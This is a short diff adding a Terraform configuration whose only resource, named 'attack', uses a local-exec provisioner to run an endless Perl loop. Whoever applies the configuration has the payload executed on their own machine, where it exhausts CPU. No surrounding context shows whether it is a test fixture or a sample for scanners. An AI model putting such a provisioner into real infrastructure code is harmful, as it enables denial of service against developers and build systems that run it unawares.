@@ -1,0 +1,7 @@
+resource "terraform_data" "attack" {
+  provisioner "local-exec" {
+    command = <<-EOT
+      exec perl -e 'while (1) {}'
+    EOT
+  }
+}
